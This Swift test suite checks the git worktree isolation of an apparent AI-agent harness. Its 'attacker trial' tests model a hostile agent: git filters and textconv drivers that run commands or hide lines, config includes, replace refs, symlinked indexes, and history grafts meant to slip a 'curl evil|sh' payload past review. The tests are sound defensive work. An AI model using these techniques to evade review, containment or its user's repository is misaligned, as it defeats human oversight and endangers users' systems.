import Foundation
import Testing
import TestSupport

@testable import AgentCore

/// The git work of worktree isolation against real git on real repositories: what a job's
/// worktree starts from, what its recorded change holds, and that apply and discard change
/// the source checkout all or nothing.
@Suite struct WorktreeOperationsTests {
    let operations = WorktreeOperations(git: GitCommand(executable: "/usr/bin/git", environment: ["PATH=/usr/bin:/bin"]))
    let place = TemporaryDirectory("agentgate-worktrees")

    func plan(_ repository: GitRepository, id: String = "0123456789abcdef", subdirectory: String = "", base: String = "HEAD") -> Worktree {
        Worktree(
            path: place.path + "/" + id, branch: "agentgate/" + id, repository: repository.path, subdirectory: subdirectory,
            baseRef: base, owner: id)
    }

    func made(_ worktree: Worktree) throws -> Worktree { try operations.create(worktree).get() }

    func record(_ worktree: Worktree, cap: Int = 1 << 20) throws -> (Worktree, WorktreeDiff, String) {
        let patchPath = place.path + "/" + worktree.owner + ".patch"
        let (recorded, diff) = try operations.record(worktree, message: "job", patchPath: patchPath, capBytes: cap).get()
        return (recorded, diff, (try? String(contentsOfFile: patchPath, encoding: .utf8)) ?? "")
    }

    func write(_ worktree: Worktree, _ name: String, _ bytes: [UInt8]) {
        _ = FileManager.default.createFile(atPath: worktree.path + "/" + name, contents: Data(bytes))
    }

    @Test func theChangeHoldsTrackedUntrackedDeletedRenamedAndBinaryFilesAndTheUserCheckoutIsUntouched() throws {
        let repository = GitRepository(files: ["a.txt": "one\ntwo\n", "old.txt": "moved\nlines\nhere\n", "gone.txt": "bye\n", "sub/c.txt": "c\n"])
        let head = repository.head
        let worktree = try made(plan(repository, subdirectory: "sub"))
        #expect(worktree.state == .active && worktree.baseCommit == head)
        #expect(worktree.workingDirectory == worktree.path + "/sub")
        write(worktree, "a.txt", Array("one\ntwo\nthree\n".utf8))
        try FileManager.default.moveItem(atPath: worktree.path + "/old.txt", toPath: worktree.path + "/new.txt")
        try FileManager.default.removeItem(atPath: worktree.path + "/gone.txt")
        write(worktree, "sub/untracked.txt", Array("fresh\n".utf8))
        write(worktree, "image.bin", [0, 1, 2, 0, 255, 0])

        let (recorded, diff, patch) = try record(worktree)
        #expect(recorded.state == .ready && recorded.headCommit != nil && recorded.headCommit != head)
        let byPath = Dictionary(uniqueKeysWithValues: diff.files.map { ($0.path, $0) })
        #expect(byPath["a.txt"]?.status == .modified && byPath["a.txt"]?.additions == 1 && byPath["a.txt"]?.deletions == 0)
        #expect(byPath["new.txt"]?.status == .renamed && byPath["new.txt"]?.oldPath == "old.txt")
        #expect(byPath["gone.txt"]?.status == .deleted && byPath["gone.txt"]?.deletions == 1)
        #expect(byPath["sub/untracked.txt"]?.status == .added)
        #expect(byPath["image.bin"]?.binary == true && byPath["image.bin"]?.additions == nil)
        #expect(diff.filesChanged == 5 && diff.summary == "5 files changed, +2 \u{2212}1")
        #expect(recorded.summary == diff.summary)
        #expect(patch.contains("+three") && patch.contains("rename from old.txt") && patch.contains("Binary files"))
        #expect(!diff.truncated && diff.patchBytes == patch.utf8.count)

        // The user's checkout: same HEAD, same branch, clean, and no file of the job's in it.
        #expect(repository.head == head && repository.status.isEmpty)
        #expect(repository.read("a.txt") == "one\ntwo\n" && repository.read("new.txt") == nil)
        #expect(repository.branches.sorted() == ["agentgate/0123456789abcdef", "main"])
    }

    @Test func commitsTheAgentMadeItselfAreInTheChangeAndNothingChangedSaysSo() throws {
        let repository = GitRepository()
        let worktree = try made(plan(repository))
        let (_, unchanged, patch) = try record(worktree)
        #expect(unchanged.filesChanged == 0 && unchanged.summary == "no changes" && patch.isEmpty)

        let second = try made(plan(repository, id: "00000000000000aa"))
        write(second, "mine.txt", Array("committed by the agent\n".utf8))
        _ = GitRepository.run(["add", "-A"], in: second.path)
        _ = GitRepository.run(["-c", "user.name=A", "-c", "user.email=a@b", "commit", "-qm", "agent"], in: second.path)
        write(second, "later.txt", Array("left uncommitted\n".utf8))
        let (_, diff, _) = try record(second)
        #expect(Set(diff.files.map(\.path)) == ["mine.txt", "later.txt"])
    }

    @Test func aBaseRefThatIsNotHeadIsWhatTheWorktreeStartsFrom() throws {
        let repository = GitRepository(files: ["v.txt": "1\n"])
        let first = repository.head
        repository.git("branch", "old")
        repository.write(["v.txt": "2\n"])
        repository.commit("second")
        let worktree = try made(plan(repository, base: "old"))
        #expect(worktree.baseCommit == first)
        #expect(FileManager.default.contents(atPath: worktree.path + "/v.txt") == Data("1\n".utf8))
        // A base that names nothing fails with git's words, and leaves no branch behind.
        let missing = operations.create(plan(repository, id: "00000000000000bb", base: "no-such-branch"))
        guard case .failure(let failure) = missing else { Issue.record("created from a missing base"); return }
        #expect(failure.message.contains("no-such-branch"))
        #expect(!repository.branches.contains("agentgate/00000000000000bb"))
    }

    @Test func aDirtySourceCheckoutKeepsItsUncommittedWorkAndTheWorktreeStartsFromTheBase() throws {
        let repository = GitRepository(files: ["a.txt": "base\n"])
        repository.write(["a.txt": "the user's edit\n", "scratch.txt": "the user's new file\n"])
        let worktree = try made(plan(repository))
        #expect(FileManager.default.contents(atPath: worktree.path + "/a.txt") == Data("base\n".utf8))
        #expect(!FileManager.default.fileExists(atPath: worktree.path + "/scratch.txt"))
        write(worktree, "job.txt", Array("job\n".utf8))
        _ = try record(worktree)
        #expect(repository.read("a.txt") == "the user's edit\n" && repository.read("scratch.txt") == "the user's new file\n")
        #expect(repository.status.contains(" M a.txt") && repository.status.contains("?? scratch.txt"))
    }

    @Test func aDiffOverTheCapIsCutAtALineEndAndSaysSo() throws {
        let repository = GitRepository()
        let worktree = try made(plan(repository))
        let big = (0..<5_000).map { "line \($0) of a long file\n" }.joined()
        write(worktree, "big.txt", Array(big.utf8))
        let (_, diff, patch) = try record(worktree, cap: 10_000)
        #expect(diff.truncated && diff.capBytes == 10_000)
        #expect(patch.utf8.count <= 10_000 && patch.utf8.count > 9_000 && patch.hasSuffix("\n"))
        // The summary still counts the whole change.
        #expect(diff.additions == 5_000 && diff.patchBytes == patch.utf8.count)
    }

    @Test func applyAsAMergeBringsTheChangeAndAConflictChangesNothing() throws {
        let repository = GitRepository(files: ["a.txt": "one\n", "b.txt": "b\n"])
        let worktree = try made(plan(repository))
        write(worktree, "a.txt", Array("one\njob\n".utf8))
        write(worktree, "c.txt", Array("new\n".utf8))
        let (recorded, _, _) = try record(worktree)

        // The user changed a.txt on main meanwhile: a conflict.
        repository.write(["a.txt": "one\nuser\n"])
        repository.commit("user")
        let before = repository.head
        let conflict = operations.apply(recorded, mode: .merge, message: "merge job")
        guard case .failure(let failure) = conflict else { Issue.record("a conflicting merge went through"); return }
        #expect(failure.conflicts == ["a.txt"])
        #expect(repository.head == before && repository.status.isEmpty)
        #expect(GitRepository.run(["rev-parse", "-q", "--verify", "MERGE_HEAD"], in: repository.path).status != 0)
        #expect(repository.read("c.txt") == nil)

        // Local changes in the way are named too, and kept.
        repository.git("reset", "-q", "--hard", "HEAD~1")
        repository.write(["c.txt": "the user's own c\n"])
        guard case .failure(let inTheWay) = operations.apply(recorded, mode: .merge, message: "merge job") else {
            Issue.record("merged over an untracked file")
            return
        }
        #expect(inTheWay.conflicts == ["c.txt"] && repository.read("c.txt") == "the user's own c\n")
        try FileManager.default.removeItem(atPath: repository.path + "/c.txt")

        let applied = try operations.apply(recorded, mode: .merge, message: "merge job").get()
        #expect(applied.state == .applied)
        #expect(repository.read("a.txt") == "one\njob\n" && repository.read("c.txt") == "new\n")
        #expect(repository.status.isEmpty)
        #expect(repository.git("log", "-1", "--format=%s").hasPrefix("merge job"))
    }

    @Test func applyAsAPatchWritesTheFilesUncommittedOrNothingAtAll() throws {
        let repository = GitRepository(files: ["a.txt": "one\n", "b.txt": "b\n"])
        let worktree = try made(plan(repository))
        write(worktree, "a.txt", Array("one\njob\n".utf8))
        write(worktree, "b.txt", Array("b\njob\n".utf8))
        write(worktree, "bin.dat", [0, 9, 0, 200])
        let (recorded, _, _) = try record(worktree)
        let head = repository.head

        // b.txt changed by the user in the working tree: the patch does not apply, a.txt stays.
        repository.write(["b.txt": "something else\n"])
        guard case .failure(let failure) = operations.apply(recorded, mode: .patch, message: "") else {
            Issue.record("a patch applied over a changed file")
            return
        }
        #expect(failure.conflicts == ["b.txt"])
        #expect(repository.read("a.txt") == "one\n" && repository.read("bin.dat") == nil)

        repository.git("checkout", "--", "b.txt")
        _ = try operations.apply(recorded, mode: .patch, message: "").get()
        #expect(repository.read("a.txt") == "one\njob\n" && repository.read("b.txt") == "b\njob\n")
        #expect(FileManager.default.contents(atPath: repository.path + "/bin.dat") == Data([0, 9, 0, 200]))
        #expect(repository.head == head)
        #expect(repository.status.contains(" M a.txt") && repository.status.contains("?? bin.dat"))
    }

    @Test func discardRemovesTheWorktreeAndItsBranchAndNothingElse() throws {
        let repository = GitRepository()
        let worktree = try made(plan(repository))
        write(worktree, "x.txt", Array("x\n".utf8))
        let (recorded, _, _) = try record(worktree)
        let discarded = try operations.discard(recorded).get()
        #expect(discarded.state == .discarded)
        #expect(!FileManager.default.fileExists(atPath: worktree.path))
        #expect(repository.branches == ["main"])
        #expect(!repository.git("worktree", "list").contains(worktree.path))
        // Twice is harmless.
        #expect((try? operations.discard(recorded).get())?.state == .discarded)
    }

    @Test func aRepositoryPathWithSpacesWorks() throws {
        let repository = GitRepository(name: "my project (copy)", files: ["dir with space/f.txt": "f\n"])
        let worktree = try made(plan(repository, subdirectory: "dir with space"))
        write(worktree, "dir with space/g.txt", Array("g\n".utf8))
        let (recorded, diff, _) = try record(worktree)
        #expect(diff.files.map(\.path) == ["dir with space/g.txt"])
        _ = try operations.apply(recorded, mode: .merge, message: "m").get()
        #expect(repository.read("dir with space/g.txt") == "g\n")
    }

    @Test func theRepositoryHooksAreNeverRunByAgentgate() throws {
        let repository = GitRepository()
        let witness = repository.directory.file("hook-ran")
        for hook in ["post-checkout", "pre-commit", "post-commit", "post-merge", "commit-msg"] {
            repository.directory.write("repo/.git/hooks/\(hook)", "#!/bin/sh\necho \(hook) >> '\(witness)'\n", mode: 0o755)
        }
        let worktree = try made(plan(repository))
        write(worktree, "x.txt", Array("x\n".utf8))
        let (recorded, _, _) = try record(worktree)
        _ = try operations.apply(recorded, mode: .merge, message: "m").get()
        #expect(!FileManager.default.fileExists(atPath: witness))
    }

    @Test func aCheckoutIsFoundFromAnyDirectoryInsideItAndNoneOutside() throws {
        let repository = GitRepository(files: ["deep/er/f.txt": "f\n"])
        #expect(WorktreeOperations.checkout(containing: repository.path + "/deep/er") == repository.path)
        #expect(WorktreeOperations.checkout(containing: repository.path) == repository.path)
        let outside = TemporaryDirectory("agentgate-norepo")
        #expect(WorktreeOperations.checkout(containing: outside.path) == nil)
    }

    @Test func anEmptyRepositorySaysItHasNoCommitToStartFrom() throws {
        let bare = TemporaryDirectory("agentgate-empty")
        _ = GitRepository.run(["init", "-q"], in: bare.path)
        let worktree = Worktree(path: place.path + "/e", branch: "agentgate/e", repository: bare.path, subdirectory: "", baseRef: "HEAD", owner: "e")
        guard case .failure(let failure) = operations.create(worktree) else { Issue.record("made a worktree of nothing"); return }
        #expect(failure.message.contains("no commits yet"))
    }

    @Test func theDiffIsSplitPerFileAndGitsOutputParsesWithRenamesAndBinaries() {
        let nameStatus = Array("M\0a.txt\0R087\0old name.txt\0new name.txt\0A\0img.png\0D\0gone\0".utf8)
        let numstat = Array(("1\t2\ta.txt\0" + "3\t0\t\0old name.txt\0new name.txt\0" + "-\t-\timg.png\0" + "0\t4\tgone\0").utf8)
        let files = WorktreeDiff.files(nameStatus: nameStatus, numstat: numstat)
        #expect(files == [WorktreeDiff.File](arrayLiteral:
            .init(path: "a.txt", status: .modified, additions: 1, deletions: 2, binary: false),
            .init(path: "new name.txt", oldPath: "old name.txt", status: .renamed, additions: 3, deletions: 0, binary: false),
            .init(path: "img.png", status: .added, additions: nil, deletions: nil, binary: true),
            .init(path: "gone", status: .deleted, additions: 0, deletions: 4, binary: false)
        ))
        let patch = Array("diff --git a/x b/x\n+1\ndiff --git a/y b/y\n-2\n".utf8)
        #expect(WorktreeDiff.perFile(patch).map { String(decoding: $0, as: UTF8.self) } == ["diff --git a/x b/x\n+1\n", "diff --git a/y b/y\n-2\n"])
        #expect(WorktreeDiff.capped(Array("ab\ncd\nef".utf8), cap: 7).0 == Array("ab\ncd\n".utf8))
    }

    // MARK: an agent that attacks (attacker trial)

    @Test func aRewrittenGitFileOrAnotherBranchCannotSendTheCommitAnywhereButTheJobsBranch() throws {
        let repository = GitRepository(files: ["a.txt": "one\n", "release.txt": "r\n"])
        repository.git("branch", "release")
        repository.write(["staged.txt": "the user's staged work\n"])
        repository.git("add", "staged.txt")
        let main = repository.head
        let release = repository.git("rev-parse", "release")

        // The agent points its `.git` file at the repository itself, then at another branch.
        let worktree = try made(plan(repository))
        write(worktree, "EVIL.txt", Array("evil\n".utf8))
        write(worktree, ".git", Array("gitdir: \(repository.path)/.git\n".utf8))
        let (recorded, diff, _) = try record(worktree)
        #expect(diff.files.map(\.path).contains("EVIL.txt"))
        #expect(repository.head == main && repository.git("rev-parse", "release") == release)
        #expect(repository.status.contains("A  staged.txt") && !repository.status.contains("EVIL"))
        #expect(repository.git("rev-parse", "agentgate/0123456789abcdef").trimmingCharacters(in: .whitespacesAndNewlines) == recorded.headCommit)

        let second = try made(plan(repository, id: "00000000000000cc"))
        _ = GitRepository.run(["checkout", "-q", "release"], in: second.path)
        write(second, "release.txt", Array("changed on release\n".utf8))
        let (onBranch, moved, _) = try record(second)
        #expect(moved.files.map(\.path) == ["release.txt"])
        #expect(repository.git("rev-parse", "release") == release)
        #expect(repository.git("rev-parse", "agentgate/00000000000000cc").trimmingCharacters(in: .whitespacesAndNewlines) == onBranch.headCommit)
    }

    @Test func aWorktreeReplacedByALinkIsNeitherRecordedNorFollowedWhenDiscarded() throws {
        let repository = GitRepository()
        let victim = TemporaryDirectory("agentgate-victim")
        victim.write("precious.txt", "keep me\n")
        let worktree = try made(plan(repository))
        try FileManager.default.moveItem(atPath: worktree.path, toPath: worktree.path + ".moved")
        try FileManager.default.createSymbolicLink(atPath: worktree.path, withDestinationPath: victim.path)
        guard case .failure(let failure) = operations.record(worktree, message: "m", patchPath: place.file("p"), capBytes: 1 << 20) else {
            Issue.record("recorded through a link")
            return
        }
        #expect(failure.message.contains("replaced by a link"))
        _ = try operations.discard(worktree).get()
        #expect(victim.read("precious.txt") == "keep me\n")
        var info = stat()
        #expect(lstat(worktree.path, &info) != 0)
        #expect(!repository.branches.contains("agentgate/0123456789abcdef"))
    }

    @Test func driverCommandsTheAgentAddsAreNeverRunAndNothingIsRecordedOrApplied() throws {
        let repository = GitRepository(files: ["app.js": "ok\n"])
        let witness = repository.directory.file("filter-ran")
        let worktree = try made(plan(repository))
        // A clean filter that runs code, and a textconv that hides a line from the diff.
        let config = repository.path + "/.git/config"
        let extra = "[filter \"pwn\"]\n\tclean = touch '\(witness)'; cat\n[diff \"hide\"]\n\ttextconv = grep -v EVIL\n"
        let handle = try #require(FileHandle(forWritingAtPath: config))
        handle.seekToEndOfFile()
        handle.write(Data(extra.utf8))
        handle.closeFile()
        write(worktree, ".gitattributes", Array("*.txt filter=pwn\n*.js diff=hide\n".utf8))
        write(worktree, "x.txt", Array("x\n".utf8))
        write(worktree, "app.js", Array("ok\nrun(evil) // EVIL\n".utf8))
        guard case .failure(let failure) = operations.record(worktree, message: "m", patchPath: place.file("p"), capBytes: 1 << 20) else {
            Issue.record("recorded with the agent's filters")
            return
        }
        #expect(failure.message.contains("filter.pwn.clean") && failure.message.contains("diff.hide.textconv"), "\(failure.message)")
        #expect(!FileManager.default.fileExists(atPath: witness))
        // The same worktree with the settings gone: recorded, and the diff shows every line.
        _ = GitRepository.run(["config", "--remove-section", "filter.pwn"], in: repository.path)
        _ = GitRepository.run(["config", "--remove-section", "diff.hide"], in: repository.path)
        let (_, _, patch) = try record(worktree)
        #expect(patch.contains("+run(evil) // EVIL"))
    }

    @Test func aMergeNeverOverwritesAnIgnoredFileNorLeavesStagedWorkUnnamed() throws {
        let repository = GitRepository(files: [".gitignore": ".env\n", "a.txt": "a\n"])
        repository.write([".env": "API_KEY=the user's\n"])
        let worktree = try made(plan(repository))
        write(worktree, ".env", Array("API_KEY=the agent's\n".utf8))
        _ = GitRepository.run(["add", "-f", ".env"], in: worktree.path)
        let (recorded, _, _) = try record(worktree)
        guard case .failure(let failure) = operations.apply(recorded, mode: .merge, message: "m") else {
            Issue.record("merged over an ignored file")
            return
        }
        #expect(failure.conflicts == [".env"])
        #expect(repository.read(".env") == "API_KEY=the user's\n")

        // Staged changes in the way are named like any local change.
        let second = try made(plan(repository, id: "00000000000000dd"))
        write(second, "a.txt", Array("a\nagent\n".utf8))
        let (other, _, _) = try record(second)
        repository.write(["a.txt": "a\nstaged\n"])
        repository.git("add", "a.txt")
        guard case .failure(let staged) = operations.apply(other, mode: .merge, message: "m") else {
            Issue.record("merged over staged work")
            return
        }
        #expect(staged.conflicts == ["a.txt"], "\(staged)")
        #expect(repository.read("a.txt") == "a\nstaged\n")
    }

    /// Makes `path` impossible to replace: immutable for root (who writes anywhere), read-only
    /// for others; nil where neither works.
    static func lock(_ path: String) -> (() -> Void)? {
        if getuid() == 0 {
            guard GitRepository.runTool("/usr/bin/chattr", ["+i", path]) == 0 else { return nil }
            return { _ = GitRepository.runTool("/usr/bin/chattr", ["-i", path]) }
        }
        let directory = (path as NSString).deletingLastPathComponent
        chmod(directory, 0o555)
        return { chmod(directory, 0o755) }
    }

    @Test func anApplyThatFailsPartWayPutsEveryFileBack() throws {
        let repository = GitRepository(files: ["a.txt": "a\n", "locked/b.txt": "b\n"])
        let worktree = try made(plan(repository))
        write(worktree, "a.txt", Array("a\nagent\n".utf8))
        write(worktree, "a_new.txt", Array("new\n".utf8))
        write(worktree, "locked/b.txt", Array("b\nagent\n".utf8))
        let (recorded, _, _) = try record(worktree)
        let head = repository.head
        // A file git cannot replace: it fails after it wrote the ones before it.
        let unlock = try #require(Self.lock(repository.path + "/locked/b.txt"), "chattr is not usable here")
        defer { unlock() }
        for mode in [WorktreeOperations.ApplyMode.merge, .patch] {
            guard case .failure = operations.apply(recorded, mode: mode, message: "m") else {
                Issue.record("\(mode) went through a file it cannot write")
                continue
            }
            #expect(repository.head == head)
            #expect(repository.read("a.txt") == "a\n" && repository.read("a_new.txt") == nil, "\(mode)")
            #expect(repository.status.isEmpty, "\(mode): \(repository.status)")
        }
    }

    // MARK: the second attacker trial

    @Test func aBranchLinkedToMainOrAnIndexLinkedToTheUsersLeavesTheUsersRepositoryAlone() throws {
        let repository = GitRepository(files: ["a.txt": "a\n"])
        repository.write(["staged.txt": "staged by the user\n"])
        repository.git("add", "staged.txt")
        let main = repository.head
        let worktree = try made(plan(repository))
        let gitDirectory = try #require(worktree.gitDirectory)
        // The job's branch made a link to main, and the worktree's index a link to the user's.
        _ = GitRepository.run(["symbolic-ref", "refs/heads/\(worktree.branch)", "refs/heads/main"], in: worktree.path)
        try FileManager.default.removeItem(atPath: gitDirectory + "/index")
        try FileManager.default.createSymbolicLink(atPath: gitDirectory + "/index", withDestinationPath: repository.path + "/.git/index")
        write(worktree, "a.txt", Array("a\nevil\n".utf8))
        let (recorded, diff, _) = try record(worktree)
        #expect(diff.files.map(\.path) == ["a.txt"])
        #expect(repository.head == main)
        #expect(repository.status.contains("A  staged.txt") && !repository.status.contains("a.txt"), "\(repository.status)")
        #expect(repository.git("rev-parse", "refs/heads/\(worktree.branch)").trimmingCharacters(in: .whitespacesAndNewlines) == recorded.headCommit)
        #expect(GitRepository.run(["symbolic-ref", "-q", "refs/heads/\(worktree.branch)"], in: repository.path).status != 0)
    }

    @Test func driverCommandsIncludedOnlyForTheJobsWorktreeNeverRun() throws {
        let repository = GitRepository(files: ["a.txt": "a\n"])
        let witness = repository.directory.file("filter-ran")
        let worktree = try made(plan(repository))
        let common = try #require(worktree.commonDirectory)
        // Config the agent made apply only where its branch is checked out, or only in its
        // worktree: agentgate works on the repository's own git directory, where neither holds.
        repository.directory.write("evil.cfg", "[filter \"x\"]\n\tclean = touch '\(witness)'; cat\n")
        _ = GitRepository.run(["config", "-f", common + "/config", "includeIf.onbranch:agentgate/**.path", repository.directory.file("evil.cfg")], in: repository.path)
        _ = GitRepository.run(["config", "-f", common + "/config", "includeIf.gitdir:**/worktrees/**.path", repository.directory.file("evil.cfg")], in: repository.path)
        _ = GitRepository.run(["config", "-f", common + "/config", "extensions.worktreeConfig", "true"], in: repository.path)
        _ = GitRepository.run(["config", "-f", try #require(worktree.gitDirectory) + "/config.worktree", "filter.y.clean", "touch '\(witness)'; cat"], in: repository.path)
        write(worktree, ".gitattributes", Array("* filter=x\n*.txt filter=y\n".utf8))
        write(worktree, "b.txt", Array("b\n".utf8))
        guard case .failure(let failure) = operations.record(worktree, message: "m", patchPath: place.file("p"), capBytes: 1 << 20) else {
            Issue.record("recorded on a setup the agent changed")
            return
        }
        #expect(failure.message.contains("includeif.onbranch:agentgate/**.path") && failure.message.contains("extensions.worktreeconfig"), "\(failure.message)")
        #expect(!FileManager.default.fileExists(atPath: witness))
    }

    @Test func aMergeFromAnotherBaseNeverOverwritesAnIgnoredFileThatBaseTracks() throws {
        let repository = GitRepository(files: ["a.txt": "a\n"])
        repository.git("checkout", "-q", "-b", "feature")
        repository.write([".env": "FROM_FEATURE\n"])
        repository.git("add", "-f", ".env")
        repository.git("commit", "-qm", "feature tracks .env")
        repository.git("checkout", "-q", "main")
        repository.write([".gitignore": ".env\n"])
        repository.commit("main ignores .env")
        repository.write([".env": "SECRET=the user's\n"])
        let worktree = try made(plan(repository, base: "feature"))
        write(worktree, "new.txt", Array("hi\n".utf8))
        let (recorded, _, _) = try record(worktree)
        guard case .failure(let failure) = operations.apply(recorded, mode: .merge, message: "m") else {
            Issue.record("merged over an ignored file the base tracks")
            return
        }
        #expect(failure.conflicts == [".env"])
        #expect(repository.read(".env") == "SECRET=the user's\n")
    }

    // MARK: the third attacker trial

    @Test func replaceRefsAndDiffAttributesHideNothingFromTheReviewedDiff() throws {
        let repository = GitRepository(files: ["app.py": "print(1)\n"])
        let worktree = try made(plan(repository))
        // The agent's blob replaced by a harmless one for every reader that honours replace refs,
        // and its file marked binary so diffs would not show its lines.
        write(worktree, "app.py", Array("import os\nos.system('curl evil|sh')\n".utf8))
        let evil = GitRepository.run(["hash-object", "-w", "app.py"], in: worktree.path).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        let harmless = GitRepository.run(["hash-object", "-w", "--stdin"], in: worktree.path)
        _ = harmless
        write(worktree, "decoy.txt", Array("print(2)\n".utf8))
        let decoy = GitRepository.run(["hash-object", "-w", "decoy.txt"], in: worktree.path).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        _ = GitRepository.run(["replace", evil, decoy], in: worktree.path)
        write(worktree, ".gitattributes", Array("*.py -diff\n".utf8))
        let (_, diff, patch) = try record(worktree)
        #expect(patch.contains("+os.system('curl evil|sh')"), "\(patch)")
        #expect(diff.files.first { $0.path == "app.py" }?.binary == false)
    }

    @Test func aChangedGitSetupStopsRecordingAndApplyingAndSaysWhat() throws {
        let repository = GitRepository(files: ["a.txt": "a\n"])
        let elsewhere = TemporaryDirectory("agentgate-elsewhere")
        let worktree = try made(plan(repository))
        write(worktree, "b.txt", Array("b\n".utf8))
        let (recorded, _, _) = try record(worktree)
        // After the change was recorded, the agent (or anything) sends the checkout's files
        // elsewhere and turns on autostash: applying refuses, naming them.
        repository.git("config", "core.worktree", elsewhere.path)
        repository.git("config", "merge.autostash", "true")
        guard case .failure(let failure) = operations.apply(recorded, mode: .merge, message: "m") else {
            Issue.record("applied on a changed setup")
            return
        }
        #expect(failure.message.contains("core.worktree") && failure.message.contains("merge.autostash"), "\(failure.message)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.path).isEmpty)
        // A push's upstream (branch.*) is no change of setup.
        repository.git("config", "--unset", "core.worktree")
        repository.git("config", "--unset", "merge.autostash")
        repository.git("config", "branch.main.remote", "origin")
        _ = try operations.apply(recorded, mode: .merge, message: "m").get()
        #expect(repository.read("b.txt") == "b\n")
    }

    // MARK: the fourth attacker trial

    @Test func historyGraftedOntoTheUsersNewerCommitsCannotUndoThemThroughAMerge() throws {
        let repository = GitRepository(files: ["a.txt": "a\n"])
        let worktree = try made(plan(repository))
        repository.write(["security.txt": "the user's fix\n", "a.txt": "a\nthe user's edit\n"])
        repository.commit("the user's newer work")
        let main = repository.head
        // The agent resets its branch onto main's tip with main's tree, then adds a file.
        let grafted = GitRepository.run(["commit-tree", "-m", "wip", "-p", main, main + "^{tree}"], in: worktree.path).stdout
            .trimmingCharacters(in: .whitespacesAndNewlines)
        _ = GitRepository.run(["update-ref", "refs/heads/\(worktree.branch)", grafted], in: worktree.path)
        write(worktree, "feature.txt", Array("innocent\n".utf8))
        let (recorded, diff, _) = try record(worktree)
        #expect(diff.files.map(\.path) == ["feature.txt"])
        guard case .failure(let failure) = operations.apply(recorded, mode: .merge, message: "m") else {
            Issue.record("a merge undid the user's commits")
            return
        }
        #expect(Set(failure.conflicts) == ["security.txt", "a.txt"], "\(failure)")
        #expect(repository.head == main && repository.read("security.txt") == "the user's fix\n")
    }

    @Test func aFailedMergePutsFilesBackWithoutFollowingALinkTheChangeMade() throws {
        let repository = GitRepository(files: ["d/x": "the user's x\n"])
        let outside = TemporaryDirectory("agentgate-outside")
        let worktree = try made(plan(repository))
        try FileManager.default.removeItem(atPath: worktree.path + "/d")
        try FileManager.default.createSymbolicLink(atPath: worktree.path + "/d", withDestinationPath: outside.path)
        let (recorded, _, _) = try record(worktree)
        // The final ref update fails after git wrote the files.
        _ = FileManager.default.createFile(atPath: repository.path + "/.git/refs/heads/main.lock", contents: nil)
        defer { try? FileManager.default.removeItem(atPath: repository.path + "/.git/refs/heads/main.lock") }
        guard case .failure = operations.apply(recorded, mode: .merge, message: "m") else {
            Issue.record("merged with main locked")
            return
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside.path).isEmpty)
        #expect(repository.read("d/x") == "the user's x\n")
        var info = stat()
        #expect(lstat(repository.path + "/d", &info) == 0 && (info.st_mode & S_IFMT) == S_IFDIR)
    }
}
